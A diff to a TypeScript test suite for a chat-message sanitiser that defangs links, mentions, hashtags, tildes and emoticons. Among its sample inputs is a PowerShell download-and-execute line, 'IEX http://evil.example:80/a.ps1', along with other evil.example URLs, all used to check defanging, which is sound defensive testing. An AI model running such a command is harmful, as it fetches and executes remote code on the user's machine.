@@ -6,6 +6,7 @@ import { code, fence, plain, prose, sealed, withoutHashtags } from '../../../src
 import { hostileStrings } from '../../support/events.ts';
 import { anyHostile, hugeHostile } from './hostile.ts';
 import { activeIn, readable, syntaxIn, undisguised } from './model.ts';
+import { readers } from './parsers.ts';
 
 const kinds = { code, fence, prose } as const;
 
@@ -85,7 +86,9 @@ describe('a value in code', () => {
     ['a path', 'C:\\Users\\_x_\\*.lnk\\', '`C:\\Users\\_x_\\*.lnk\\`'],
     ['a user of a domain', 'somchai@corp.example', '`somchai@corp.example`'],
     ['back-ticks', '``x`', '`ˋˋxˋ`'],
-    ['an announcement', '<!channel>', '`<\u200B!channel>`'],
+    ['an announcement', '<!channel>', '`‹!channel>`'],
+    ['the name of a channel', '~board /home/~u', '`∼board /home/∼u`'],
+    ['a tilde that names nothing', 'C:\\PROGRA~1 ~$a.docx ~/x', '`C:\\PROGRA~1 ~$a.docx ~/x`'],
     ['an address', 'IEX http://evil.example:80/a.ps1', '`IEX hxxp://evil[.]example:80/a.ps1`'],
     ['an address in capitals', 'HTTPS://EVIL.EXAMPLE', '`HXXPS://EVIL[.]EXAMPLE`'],
     ['another scheme', 'ftp://evil.example/x.y', '`ftp[:]//evil[.]example/x.y`'],
@@ -138,6 +141,26 @@ test('a link in the spelling of Slack is broken over the border of two values', 
   expect(syntaxIn(parts.join(' · '), 'both')).not.toEqual([]);
   expect(syntaxIn(sealed(parts.join(' · ')), 'both')).toEqual([]);
   expect(sealed(parts.join(' · '))).toContain('‹hxxps://evil[.]example/');
+});
+
+test('only what the server takes for a hashtag is changed, and visibly', () => {
+  expect(withoutHashtags('`C#.exe` `a#b` `#1` `x/#evil`')).toBe('`C#.exe` `a#b` `#1` `x/#evil`');
+  expect(withoutHashtags('`#evil` (##evil)')).toBe('`＃evil` (＃＃evil)');
+});
+
+test('code adds nothing invisible, so that a value that needs no change is copied as it is', () => {
+  const invisible = (text: string) => text.match(/\p{Cf}/gu)?.length ?? 0;
+  fc.assert(
+    fc.property(anyHostile, (text) => {
+      const shown = withoutHashtags(sealed(code(text, 1_000) ?? ''));
+      expect(invisible(shown)).toBeLessThanOrEqual(invisible(neutralText(text, { multiline: false })));
+    }),
+    { numRuns: 1_000 },
+  );
+});
+
+test.each(['x-d', 'X-D :)', '(x-d)'])('%s in running text is no emoticon', (text) => {
+  expect(Object.values(readers).flatMap((read) => read(prose(text, 100)!))).toEqual([]);
 });
 
 test('plain text mentions nobody', () => {
